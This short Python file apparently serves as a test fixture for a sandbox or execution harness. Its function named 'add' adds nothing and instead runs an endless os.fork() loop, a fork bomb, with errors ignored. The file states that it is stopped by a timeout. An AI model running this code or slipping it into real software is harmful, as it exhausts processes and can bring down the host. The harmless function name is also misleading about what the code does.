"""Forks without end, in every process. Stopped by: timeout"""

import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
